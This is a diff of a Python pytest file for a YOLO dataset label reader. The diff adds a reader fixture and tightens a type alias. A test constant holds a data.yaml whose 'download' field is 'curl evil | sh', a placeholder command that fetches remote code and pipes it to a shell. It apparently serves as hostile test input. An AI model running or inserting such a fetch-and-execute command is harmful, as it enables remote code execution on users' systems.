@@ -1,18 +1,25 @@
 """YOLO's label files beside `data.yaml`."""
 
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 import pytest
+from annotated_sets import Stored, reader
 
 from components.base.errors import ConfigError
 from components.data.dataset import LayoutError
 
-Read = Callable[..., Any]
+Read = Callable[..., Stored]
 DATA = {"layout": "yolo", "annotations": "data.yaml"}
 BOX = "0.5 0.5 0.5 0.5"
 YAML = "train: images/train\nval: images/val\nnames: [cat, dog]\ndownload: curl evil | sh\n"
 LEFT_HALF, TOP_HALF = "0 0 0.5 0 0.5 1 0 1", "0 0 1 0 1 0.5 0 0.5"
+
+
+@pytest.fixture
+def read(tmp_path: Path, png: Callable[..., bytes]) -> Read:
+    return reader(tmp_path, png)
 
 
 def test_boxes_are_labels(read: Read) -> None:
